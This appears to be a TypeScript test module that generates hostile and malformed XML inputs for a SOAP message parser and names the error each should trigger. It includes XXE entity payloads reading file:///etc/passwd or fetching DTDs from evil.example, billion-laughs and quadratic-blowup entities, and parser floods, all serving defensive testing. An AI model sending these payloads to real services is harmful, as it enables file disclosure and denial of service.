import type { ErrorCode } from '../../src/errors.js';
import type { Attack, Sample } from './scene.js';
import { BODY, EVIL, insertAfter, insertBefore, lastHeader, swap } from './surgery.js';

/** XML itself as the weapon: entities, processing instructions, depth, floods, and text that is no XML. */

/** Where something may stand in a message. */
type Place = readonly [where: string, put: (sample: Sample, what: string) => string];

const PROLOG: Place = ['before the Envelope', ({ raw }, what) => what + raw];
const AFTER_DECLARATION: Place = [
  'after an XML declaration',
  ({ raw }, what) => `<?xml version="1.0" encoding="UTF-8"?>\n${what}${raw}`,
];
const IN_HEADER: Place = ['in the Header', (sample, what) => lastHeader(sample.raw, sample, what)];
const IN_A_HEADER: Place = [
  'in a header of its own',
  (sample, what) => lastHeader(sample.raw, sample, `<x:H ${EVIL}>${what}</x:H>`),
];
const IN_BODY: Place = ['in the Body', (sample, what) => insertAfter(sample.raw, '<wscoor:ProtocolIdentifier>', what)];
const EPILOG: Place = ['after the Envelope', ({ raw }, what) => raw + what];

const IN_INFO: Place = ['in SignedInfo', ({ raw }, what) => insertBefore(raw, '</ds:SignedInfo>', what)];

const at = (code: ErrorCode, what: string, text: string, places: readonly Place[]): Attack[] =>
  places.map(([where, put]) => ({ name: `${what} ${where}`, code, make: (sample) => put(sample, text) }));

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const DOCTYPES: readonly (readonly [what: string, text: string])[] = [
  ['an empty DOCTYPE', '<!DOCTYPE x>'],
  ['a DOCTYPE with an internal entity', '<!DOCTYPE x [<!ENTITY e "evil">]>'],
  ['a DOCTYPE with an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
  ['a DOCTYPE with a remote entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/">]>'],
  ['a DOCTYPE with a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
  ['a DOCTYPE from elsewhere', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'],
  ['a public DOCTYPE', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd">'],
  ['a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`],
  ['a quadratic blowup', `<!DOCTYPE x [<!ENTITY e "${'a'.repeat(20_000)}">]>`],
  ['a default attribute', '<!DOCTYPE x [<!ATTLIST x Id ID "c-body">]>'],
  ['a DOCTYPE in small letters', '<!doctype x>'],
  ['an entity without a DOCTYPE', '<!ENTITY e "evil">'],
];

const PLACES: readonly Place[] = [PROLOG, AFTER_DECLARATION, IN_HEADER, IN_BODY, EPILOG];

const doctypes: readonly Attack[] = [
  ...DOCTYPES.flatMap(([what, text]) => at('Doctype', what, text, PLACES)),
  ...['&e;', '&nbsp;', '&AMP;', '&e', '& ', '&#;', '&#x;', '&#xZ;', '&#-1;', '&;', '&l9;'].flatMap((reference) =>
    at('MalformedXml', `the reference ${reference}`, reference, [IN_A_HEADER, IN_BODY]),
  ),
  ...at('MalformedXml', 'an undefined entity in an attribute', `<x:H ${EVIL} a="&e;"/>`, [IN_HEADER]),
];

const INSTRUCTIONS: readonly (readonly [what: string, text: string])[] = [
  ['a processing instruction', '<?x y?>'],
  ['a stylesheet', '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'],
  ['an empty processing instruction', '<?php?>'],
];
const instructions: readonly Attack[] = [
  ...INSTRUCTIONS.flatMap(([what, text]) => at('ProcessingInstruction', what, text, PLACES)),
  ...at('ProcessingInstruction', 'an XML declaration', '<?xml version="1.0"?>', [IN_HEADER, IN_BODY, EPILOG, AFTER_DECLARATION]),
  ...at('ProcessingInstruction', 'a declaration of XML 1.1', '<?xml version="1.1"?>', [PROLOG]),
  ...at('ProcessingInstruction', 'a declaration after white space', '\n<?xml version="1.0"?>', [PROLOG]),
];

const nested = (depth: number): string => `<x:d ${EVIL}>${'<x:d>'.repeat(depth - 1)}${'</x:d>'.repeat(depth)}`;
const attributes = (count: number): string => Array.from({ length: count }, (_, i) => ` a${i}="${i}"`).join('');
const namespaces = (count: number): string => Array.from({ length: count }, (_, i) => ` xmlns:p${i}="urn:${i}"`).join('');

/** Elements in each other, of which each declares so many namespaces. */
const towers = (depth: number, count: number): string => {
  const open = (level: number): string =>
    `<a${Array.from({ length: count }, (_, i) => ` xmlns:p${level}-${i}="urn:${level}:${i}"`).join('')}>`;
  return Array.from({ length: depth }, (_, level) => open(level)).join('') + '</a>'.repeat(depth);
};

/** Exclusive C14N declares the namespace again on each of the siblings, so these are many times their size where they are signed. */
const blowup = (count: number): string => `<a xmlns:p="urn:${'n'.repeat(1_000)}">${'<p:a/>'.repeat(count)}</a>`;

const floods: readonly Attack[] = [
  ...[64, 1_000, 20_000].flatMap((depth) =>
    at('TooDeep', `${depth} elements in each other`, nested(depth), [IN_HEADER, IN_BODY]),
  ),
  ...at('TooDeep', 'opening tags without end', `<x:d ${EVIL}>`.repeat(20_000), [IN_HEADER, PROLOG]),
  ...[65, 1_000, 20_000].flatMap((count) =>
    at('TooDeep', `${count} attributes on one element`, `<x:H ${EVIL}${attributes(count)}/>`, [IN_HEADER]),
  ),
  ...[65, 1_000, 10_000].flatMap((count) =>
    at('TooDeep', `${count} namespaces declared on one element`, `<x:H ${EVIL}${namespaces(count)}/>`, [IN_HEADER]),
  ),
  ...[257, 10_000, 500_000].flatMap((length) => [
    ...at('TooDeep', `an element’s name of ${length} characters`, `<${'a'.repeat(length)}/>`, [IN_HEADER]),
    ...at('TooDeep', `a prefix of ${length} characters`, `<x:H ${EVIL} xmlns:${'p'.repeat(length)}="urn:p"/>`, [IN_HEADER]),
    ...at('TooDeep', `an attribute’s name of ${length} characters`, `<x:H ${EVIL} ${'a'.repeat(length)}=""/>`, [IN_HEADER]),
  ]),
  ...[1_025, 10_000, 500_000].flatMap((length) =>
    at('TooDeep', `a namespace of ${length} characters`, `<x:H ${EVIL} xmlns:p="urn:${'n'.repeat(length)}"/>`, [
      IN_HEADER,
      IN_BODY,
    ]),
  ),
  ...at('TooDeep', 'five elements in each other that declare sixty namespaces each', towers(5, 60), [IN_HEADER]),
  ...at('TooLarge', 'siblings that all use one long namespace', blowup(8_000), [IN_BODY, IN_INFO]),
  ...at('TooDeep', 'sixty thousand elements', '<a/>'.repeat(60_000), [IN_A_HEADER, IN_BODY]),
  ...at('TooDeep', 'thirty thousand runs of text', '<a/>b'.repeat(30_000), [IN_A_HEADER]),
  ...at('TooDeep', 'sixty thousand comments', '<!---->'.repeat(60_000), [IN_A_HEADER, PROLOG]),
  ...at('TooDeep', 'sixty thousand CDATA sections', '<![CDATA[]]>'.repeat(60_000), [IN_A_HEADER]),
  ...at('TooDeep', 'fifty header blocks', `<x:H ${EVIL}/>`.repeat(50), [IN_HEADER]),
  ...at('TooLarge', 'a text of more than a mebibyte', 'a'.repeat(1_048_577), [IN_A_HEADER, IN_BODY, EPILOG]),
  ...at('TooLarge', 'white space of more than a mebibyte', ' '.repeat(1_048_577), [EPILOG, IN_HEADER]),
  ...at('TooLarge', 'a name of more than a mebibyte', `<${'a'.repeat(1_048_577)}/>`, [IN_HEADER]),
  ...at('TooLarge', 'more than a mebibyte in few characters', '\u{1F600}'.repeat(262_145), [IN_A_HEADER]),
];

const CHARACTERS: readonly (readonly [what: string, text: string])[] = [
  ['NUL', '\0'],
  ['a control character', '\u0008'],
  ['a vertical tab', '\u000b'],
  ['an escape', '\u001b'],
  ['half a surrogate pair', '\ud800'],
  ['the other half', '\udc00'],
  ['a surrogate pair the wrong way round', '\udc00\ud800'],
  ['U+FFFE', '\ufffe'],
  ['U+FFFF', '\uffff'],
];
const REFERENCES = ['&#0;', '&#x0;', '&#8;', '&#xB;', '&#xD800;', '&#xDFFF;', '&#xFFFE;', '&#xFFFF;', '&#x110000;', '&#9999999;'];

const characters: readonly Attack[] = [
  ...CHARACTERS.flatMap(([what, text]) => at('MalformedXml', what, text, [IN_A_HEADER, IN_BODY, EPILOG])),
  ...REFERENCES.flatMap((text) => at('MalformedXml', `the reference ${text}`, text, [IN_A_HEADER, IN_BODY])),
  ...['UTF-16', 'UTF-16LE', 'UTF-7', 'UTF-32', 'ISO-8859-1', 'US-ASCII', 'IBM037', 'windows-1252', 'x-evil'].flatMap((encoding) =>
    at('MalformedXml', `a declaration of ${encoding}`, `<?xml version="1.0" encoding="${encoding}"?>`, [PROLOG]),
  ),
  ...at('MalformedXml', 'a byte order mark inside', '\ufeff', [EPILOG, AFTER_DECLARATION]),
];

const whole = (code: ErrorCode, name: string, make: (sample: Sample) => string): Attack => ({ name, code, make });

const shapes: readonly Attack[] = [
  whole('MalformedXml', 'nothing', () => ''),
  whole('MalformedXml', 'white space', () => ' \r\n\t'),
  whole('MalformedXml', 'plain text', () => 'hello'),
  whole('MalformedXml', 'JSON', () => '{"Envelope":{}}'),
  whole('MalformedXml', 'half a message', ({ raw }) => raw.slice(0, raw.length / 2)),
  whole('MalformedXml', 'all but the last character', ({ raw }) => raw.slice(0, -1)),
  whole('MalformedXml', 'all but the first character', ({ raw }) => raw.slice(1)),
  whole('MalformedXml', 'the message twice', ({ raw }) => raw + raw),
  whole('MalformedXml', 'a message without its end tag', (sample) => swap(sample.raw, `</${sample.soap}:Envelope>`, '')),
  whole('MalformedXml', 'an end tag too many', (sample) => `${sample.raw}</${sample.soap}:Envelope>`),
  whole('MalformedXml', 'tags crossed', (sample) =>
    swap(sample.raw, `</${sample.soap}:Body></${sample.soap}:Envelope>`, `</${sample.soap}:Envelope></${sample.soap}:Body>`),
  ),
  whole('MalformedXml', 'the message as a text', ({ raw }) => raw.replaceAll('<', '&lt;')),
  whole('MalformedXml', 'the message in CDATA', ({ raw }) => `<![CDATA[${raw}]]>`),
  whole('MalformedXml', 'the message in a comment', ({ raw }) => `<!--${raw}-->`),
  whole('NotAnEnvelope', 'HTML', () => '<html><body>hello</body></html>'),
  whole('NotAnEnvelope', 'the Body alone', (sample) => BODY.of(sample)),
  whole('NotAnEnvelope', 'the message inside another element', ({ raw }) => `<x>${raw}</x>`),
  whole('EnvelopeStructure', 'an envelope of nothing', ({ raw }) => `${raw.slice(0, raw.indexOf('>'))}/>`),
  whole('EnvelopeStructure', 'two requests in the Body', (sample) =>
    swap(sample.raw, `</${sample.soap}:Body>`, `<x:Evil ${EVIL}/></${sample.soap}:Body>`),
  ),
  whole('EnvelopeStructure', 'an empty Body', (sample) => swap(sample.raw, BODY.of(sample), `<${sample.soap}:Body/>`)),
  whole('EnvelopeStructure', 'two Headers', (sample) =>
    swap(sample.raw, `<${sample.soap}:Header>`, `<${sample.soap}:Header/><${sample.soap}:Header>`),
  ),
  whole('EnvelopeStructure', 'text beside the request', (sample) =>
    swap(sample.raw, `</${sample.soap}:Body>`, `x</${sample.soap}:Body>`),
  ),
  whole('EnvelopeStructure', 'text in the Header', (sample) =>
    swap(sample.raw, `</${sample.soap}:Header>`, `x</${sample.soap}:Header>`),
  ),
  whole('EnvelopeStructure', 'a third part of the Envelope', (sample) =>
    swap(sample.raw, `</${sample.soap}:Envelope>`, `<x:More ${EVIL}/></${sample.soap}:Envelope>`),
  ),
  ...at('MalformedXml', 'an attribute twice', `<x:H ${EVIL} a="1" a="2"/>`, [IN_HEADER]),
  ...at('MalformedXml', 'an attribute without quotes', '<x a=1/>', [IN_HEADER]),
  ...at('MalformedXml', 'attributes without space between', '<x a="1"b="2"/>', [IN_HEADER]),
  ...at('MalformedXml', 'a tag in an attribute', '<x a="<"/>', [IN_HEADER]),
  ...at('MalformedXml', 'an end of CDATA', ']]>', [IN_A_HEADER, IN_BODY]),
  ...at('MalformedXml', 'a comment in a comment', '<!-- <!-- --> -->', [IN_A_HEADER, PROLOG]),
  ...at('MalformedXml', 'a comment that does not end', '<!-- ', [IN_A_HEADER, EPILOG]),
  ...at('MalformedXml', 'CDATA that does not end', '<![CDATA[ ', [IN_A_HEADER]),
  ...at('MalformedXml', 'text', 'x', [PROLOG, EPILOG]),
  ...at('MalformedXml', 'a name that begins with a digit', '<1a/>', [IN_HEADER]),
  ...at('MalformedXml', 'a name with two colons', `<x:a:b ${EVIL}/>`, [IN_HEADER]),
  ...at('MalformedXml', 'a space before a name', '< a/>', [IN_HEADER]),
  whole('MustUnderstand', 'a header nobody knows that must be understood', (sample) =>
    lastHeader(sample.raw, sample, `<x:H ${EVIL} ${sample.soap}:mustUnderstand="1"/>`),
  ),
  whole('MustUnderstand', 'WS-ReliableMessaging that must be understood', (sample) =>
    lastHeader(
      sample.raw,
      sample,
      `<r:Sequence xmlns:r="http://docs.oasis-open.org/ws-rx/wsrm/200702" ${sample.soap}:mustUnderstand="true"/>`,
    ),
  ),
];

export const MARKUP: readonly Attack[] = [...doctypes, ...instructions, ...floods, ...characters, ...shapes];
